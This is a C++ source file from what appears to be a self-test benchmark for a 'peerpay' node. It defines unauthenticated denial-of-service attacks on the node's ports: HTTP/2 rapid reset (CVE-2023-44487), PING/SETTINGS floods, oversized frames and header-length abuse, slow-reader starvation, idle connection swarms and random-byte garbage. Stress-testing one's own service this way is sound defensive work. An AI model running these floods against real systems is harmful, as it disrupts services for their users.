// Attacks by whoever reaches a port: raw connections, no keys.

#include "base/rng.h"
#include "bench/attack.h"
#include "bench/http2_bytes.h"
#include "bench/swarm.h"
#include "node/app/home.h"

namespace peerpay::bench {
namespace {

constexpr std::uint32_t kNoWindow = 0;
constexpr std::uint32_t kWidestWindow = 0x7fffffff;  // RFC 9113 section 6.9.1
constexpr std::uint32_t kCallsAtOnce = 128;          // as many streams as a node allows
constexpr const char* kGetStatus = "/peerpay.v1.Node/GetStatus";

// Streams of a client have odd numbers.
std::uint32_t stream_id(std::uint32_t call) { return 2 * call + 1; }

AttackCounts counts_of(const SwarmCounts& counts) {
  return {{"connections", counts.opened},
          {"open_at_once", counts.open_at_once},
          {"ended_by_node", counts.ended},
          {"messages", counts.sayings},
          {"bytes", counts.bytes}};
}

Result<AttackCounts> attack_by(const SwarmPlan& plan, Interruption& interruption) {
  const auto counts = run_swarm(plan, interruption);
  if (!counts) return base::Unexpected{counts.error()};
  return counts_of(*counts);
}

// Two of three speak HTTP/2 and call nothing, the third says nothing at all.
Result<AttackCounts> idle(const AttackTarget& target, Interruption& interruption) {
  return attack_by({.address = target.client_address,
                    .connections = 10'000,
                    .sources = 20,
                    .reopen_after = base::seconds(1),
                    .say =
                        [](std::size_t index, std::uint32_t round) {
                          if (round > 0 || index % 3 == 2) return std::string{};
                          return http2_opening(kNoWindow);
                        }},
                   interruption);
}

// CVE-2023-44487: calls that are taken back before they are answered count against no limit of
// calls at a time.
std::string resets(std::uint32_t round) {
  constexpr std::uint32_t kCalls = 100;
  std::string out = round == 0 ? http2_opening(kNoWindow) : std::string{};
  constexpr char kCancel[] = {0, 0, 0, 8};  // RFC 9113 section 7
  for (std::uint32_t call = round * kCalls; call < (round + 1) * kCalls; ++call) {
    out += http2_frame({Http2Frame::kHeaders, kHttp2EndHeaders, stream_id(call)},
                       grpc_request_fields(kGetStatus));
    out += http2_frame({Http2Frame::kReset, 0, stream_id(call)}, {kCancel, sizeof kCancel});
  }
  return out;
}

Result<AttackCounts> reset(const AttackTarget& target, Interruption& interruption) {
  return attack_by({.address = target.client_address,
                    .connections = 16,
                    .sources = 4,
                    .reopen_after = base::milliseconds(10),
                    .say = [](std::size_t, std::uint32_t round) { return resets(round); }},
                   interruption);
}

// Each has to be answered, and nobody reads the answers (CVE-2019-9512, CVE-2019-9515).
Result<AttackCounts> control_frames(const AttackTarget& target, Interruption& interruption) {
  return attack_by({.address = target.client_address,
                    .connections = 16,
                    .sources = 4,
                    .reads = false,
                    .reopen_after = base::milliseconds(10),
                    .say =
                        [](std::size_t index, std::uint32_t round) {
                          auto out = round == 0 ? http2_opening(kNoWindow) : std::string{};
                          for (int i = 0; i < 100; ++i) {
                            out += index % 2 == 0 ? http2_frame({Http2Frame::kPing}, "8 bytes.")
                                                  : http2_frame({Http2Frame::kSettings}, {});
                          }
                          return out;
                        }},
                   interruption);
}

std::string oversized(std::size_t index, std::uint32_t round) {
  constexpr std::size_t kPiece = 16 * 1024;  // the largest frame that HTTP/2 lets one send unasked
  constexpr std::size_t kFrameMax = 0xffffff;
  const std::string piece(kPiece, 'x');
  switch (index % 4) {
    case 0:  // a frame of 16 MiB
      return round == 0 ? http2_opening(kNoWindow) +
                              http2_frame({Http2Frame::kHeaders, kHttp2EndHeaders, 1},
                                          grpc_request_fields(kGetStatus)) +
                              http2_frame({Http2Frame::kData, 0, 1}, piece, kFrameMax)
                        : piece;
    case 1:  // a message of 2 GiB
      return round == 0 ? http2_opening(kNoWindow) +
                              http2_frame({Http2Frame::kHeaders, kHttp2EndHeaders, 1},
                                          grpc_request_fields(kGetStatus)) +
                              http2_frame({Http2Frame::kData, 0, 1}, grpc_message_prefix(1U << 31))
                        : http2_frame({Http2Frame::kData, 0, 1}, piece);
    case 2:  // metadata without end, in fields that each are short
      return round == 0
                 ? http2_opening(kNoWindow) +
                       http2_frame({Http2Frame::kHeaders, 0, 1}, grpc_request_fields(kGetStatus))
                 : http2_frame({Http2Frame::kContinuation, 0, 1},
                               hpack_field("x-" + std::to_string(round), std::string(100, 'x')));
    default:  // one field without end: length 2^28 (RFC 7541 section 5.1)
      return round == 0 ? http2_opening(kNoWindow) +
                              http2_frame({Http2Frame::kHeaders, 0, 1},
                                          grpc_request_fields(kGetStatus) +
                                              hpack_field("x", "").substr(0, 3) +
                                              std::string{"\x7f\x81\xff\xff\x7f", 5})
                        : http2_frame({Http2Frame::kContinuation, 0, 1}, piece);
  }
}

Result<AttackCounts> oversized_frames(const AttackTarget& target, Interruption& interruption) {
  return attack_by({.address = target.client_address,
                    .connections = 64,
                    .sources = 4,
                    .reopen_after = base::milliseconds(10),
                    .say = oversized},
                   interruption);
}

// Asks for the largest answers and takes none of them: half of the connections leave the node's
// streams no window, the others its socket no room.
Result<AttackCounts> slow_reader(const AttackTarget& target, Interruption& interruption) {
  return attack_by(
      {.address = target.client_address,
       .connections = 64,
       .sources = 8,
       .reads = false,
       .reopen_after = base::milliseconds(100),
       .say =
           [](std::size_t index, std::uint32_t round) {
             if (round > 0) return std::string{};
             auto out = http2_opening(index % 2 == 0 ? kNoWindow : kWidestWindow);
             for (std::uint32_t call = 0; call < kCallsAtOnce; ++call) {
               const bool subscribes = call % 4 == 0;
               // SubscribeRequest.from_height = 1; the other request has no fields.
               out += subscribes
                          ? grpc_call(stream_id(call), "/peerpay.v1.Node/Subscribe", "\x08\x01")
                          : grpc_call(stream_id(call), "/peerpay.v1.Node/GetGenesis", "");
             }
             return out;
           }},
      interruption);
}

std::string garbage(std::size_t index, std::uint32_t round) {
  constexpr std::size_t kBytes = 4096;
  base::Rng rng{index * 0x10000 + round};
  std::string out;
  while (out.size() < kBytes) out += static_cast<char>(rng.between(0, 255));
  return out;
}

Result<AttackCounts> garbage_for_http(const AttackTarget& target, Interruption& interruption) {
  return attack_by({.address = target.client_address,
                    .connections = 32,
                    .sources = 4,
                    .reopen_after = base::milliseconds(10),
                    .say = garbage},
                   interruption);
}

Result<AttackCounts> garbage_for_tls(const AttackTarget& target, Interruption& interruption) {
  const auto home = app::load_home(target.home);
  if (!home) return fail(home.error().sentence);
  return attack_by({.address = home->network.genesis.validators.front().peer_address,
                    .connections = 32,
                    .sources = 4,
                    .reopen_after = base::milliseconds(10),
                    .say = garbage},
                   interruption);
}

}  // namespace

std::vector<Attack> attacks_by_strangers() {
  return {
      {"idle-connections", "10,000 connections to the client port that call nothing", false, idle},
      {"reset-flood", "HTTP/2 calls that are taken back at once (rapid reset)", false, reset},
      {"control-flood", "HTTP/2 PING and SETTINGS whose answers nobody reads", false,
       control_frames},
      {"oversized-frames", "HTTP/2 frames, messages and metadata above every limit", false,
       oversized_frames},
      {"slow-client", "clients that ask for large answers and read none", false, slow_reader},
      {"garbage-client", "random bytes instead of HTTP/2", false, garbage_for_http},
      {"garbage-peer", "random bytes instead of TLS", false, garbage_for_tls},
  };
}

}  // namespace peerpay::bench
